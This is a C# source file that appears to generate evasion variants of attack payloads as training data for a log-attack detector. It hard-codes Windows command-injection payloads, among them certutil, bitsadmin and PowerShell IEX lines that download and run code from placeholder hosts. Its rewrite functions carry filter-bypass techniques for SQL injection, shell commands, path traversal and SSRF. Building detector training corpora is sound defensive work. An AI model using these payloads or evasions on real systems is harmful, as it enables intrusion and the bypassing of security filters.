using System.Globalization;
using System.Text;

namespace LogGuard.Training.Corpus;

/// <summary>
/// Rewrites an attack the way attackers dodge filters, so the model learns the attack and not one spelling of it:
/// case mixing, SQL comments and other whitespace, shell quote-splitting and <c>${IFS}</c>, fullwidth letters,
/// overlong UTF-8, and other notations of an IP address. A rewrite stays on its payload's side of the split.
/// </summary>
public static class Evasions
{
    // Windows command execution, which the Unix-heavy payload lists hardly cover.
    private static readonly string[] WindowsCommands =
    [
        "& whoami", "| ipconfig /all", "& type C:\\Windows\\win.ini", "&& net user", "| dir C:\\Users", "& cmd.exe /c ver",
        "| powershell -nop -c \"Get-Process\"", "& powershell -w hidden -enc SQBFAFgA", "& certutil -urlcache -split -f http://198.51.100.7/a.exe a.exe",
        "| powershell IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.9/p.ps1')", "& net localgroup administrators", "| systeminfo",
        "; cmd /c \"set\"", "& reg query HKLM\\SAM", "| tasklist /v", "& wmic process list brief", "& bitsadmin /transfer x http://198.51.100.7/x.exe %TEMP%\\x.exe",
    ];

    public static IEnumerable<string> WindowsCommandPayloads() => WindowsCommands;

    /// <summary>A rewrite of <paramref name="payload"/> for its family, or null when none applies.</summary>
    public static string? Rewrite(SyntheticRandom random, string payload, string family)
    {
        var kind = family[(family.IndexOf('/', StringComparison.Ordinal) + 1)..];
        var rewritten = kind switch
        {
            "sqli" => random.Next(3) switch
            {
                0 => SqlWhitespace(random, payload),
                1 => VersionedComments(payload),
                _ => MixCase(random, payload),
            },
            "command_injection" or "cmdi" => random.Next(3) switch
            {
                0 => payload.Replace(" ", random.Pick(new[] { "${IFS}", "$IFS$9", "%09", "<" }), StringComparison.Ordinal),
                1 => SplitWords(random, payload),
                _ => MixCase(random, payload),
            },
            "path_traversal" or "path-traversal" or "file_inclusion" => random.Next(3) switch
            {
                0 => payload.Replace("../", random.Pick(new[] { "%c0%ae%c0%ae/", "..%c0%af", "....//", "..\\" }), StringComparison.Ordinal),
                1 => payload.Replace("/", "\\", StringComparison.Ordinal),
                _ => Fullwidth(random, payload),
            },
            "ssrf" => AlternativeAddress(random, payload),
            "xss" or "ssti" or "ssi_esi" or "xxe" or "nosql_ldap" => random.Chance(0.5) ? MixCase(random, payload) : Fullwidth(random, payload),
            _ => null,
        };
        return rewritten == payload ? null : rewritten;
    }

    private static string MixCase(SyntheticRandom random, string text)
    {
        var chars = text.ToCharArray();
        for (var i = 0; i < chars.Length; i++)
        {
            if (char.IsAsciiLetter(chars[i]) && random.Chance(0.5))
            {
                chars[i] = char.IsAsciiLetterUpper(chars[i]) ? char.ToLowerInvariant(chars[i]) : char.ToUpperInvariant(chars[i]);
            }
        }

        return new string(chars);
    }

    private static string SqlWhitespace(SyntheticRandom random, string text) =>
        text.Replace(" ", random.Pick(new[] { "/**/", "%09", "%0a", "/*x*/", "%0b", "+" }), StringComparison.Ordinal);

    // MySQL runs what is inside /*!50000 ... */; filters that skip comments do not.
    private static string VersionedComments(string text)
    {
        foreach (var keyword in new[] { "union", "select", "from", "where", "and", "or", "sleep", "concat" })
        {
            text = ReplaceWord(text, keyword, word => $"/*!50000{word}*/");
        }

        return text;
    }

    // Shell quotes and backslashes vanish before execution: w'h'oami and w\hoami run whoami.
    private static string SplitWords(SyntheticRandom random, string text)
    {
        foreach (var command in new[] { "cat", "whoami", "id", "uname", "wget", "curl", "nc", "bash", "sh", "ls", "ping", "echo", "passwd" })
        {
            text = ReplaceWord(text, command, word => word.Length < 2 ? word : random.Pick(new[]
            {
                $"{word[0]}'{word[1..]}'", $"{word[0]}\"{word[1..]}\"", $"{word[0]}\\{word[1..]}", $"{word[..^1]}''{word[^1]}",
            }));
        }

        return text;
    }

    // Fullwidth forms of the characters that carry the attack, as some decoders fold them back to ASCII.
    private static string Fullwidth(SyntheticRandom random, string text)
    {
        var builder = new StringBuilder(text.Length);
        foreach (var c in text)
        {
            builder.Append(c is >= '!' and <= '~' && random.Chance(0.6) ? (char)(c + 0xFEE0) : c);
        }

        return builder.ToString();
    }

    private static string AlternativeAddress(SyntheticRandom random, string text)
    {
        foreach (var address in new[] { "127.0.0.1", "169.254.169.254", "10.0.0.1", "192.168.0.1" })
        {
            if (text.Contains(address, StringComparison.Ordinal))
            {
                var octets = address.Split('.').Select(octet => int.Parse(octet, CultureInfo.InvariantCulture)).ToArray();
                var number = ((long)octets[0] << 24) | ((long)octets[1] << 16) | ((long)octets[2] << 8) | (long)octets[3];
                var notation = random.Next(4) switch
                {
                    0 => number.ToString(CultureInfo.InvariantCulture),
                    1 => "0x" + number.ToString("x8", CultureInfo.InvariantCulture),
                    2 => string.Join('.', octets.Select(octet => "0" + Convert.ToString(octet, 8))),
                    _ => $"{octets[0]}.{(octets[1] << 16) | (octets[2] << 8) | octets[3]}",
                };
                return text.Replace(address, notation, StringComparison.Ordinal);
            }
        }

        return text;
    }

    private static string ReplaceWord(string text, string word, Func<string, string> replacement)
    {
        var builder = new StringBuilder();
        var start = 0;
        while (true)
        {
            var index = text.IndexOf(word, start, StringComparison.OrdinalIgnoreCase);
            if (index < 0)
            {
                break;
            }

            var end = index + word.Length;
            var isWord = (index == 0 || !char.IsAsciiLetter(text[index - 1])) && (end == text.Length || !char.IsAsciiLetter(text[end]));
            builder.Append(text, start, index - start).Append(isWord ? replacement(text[index..end]) : text[index..end]);
            start = end;
        }

        return builder.Append(text, start, text.Length - start).ToString();
    }
}
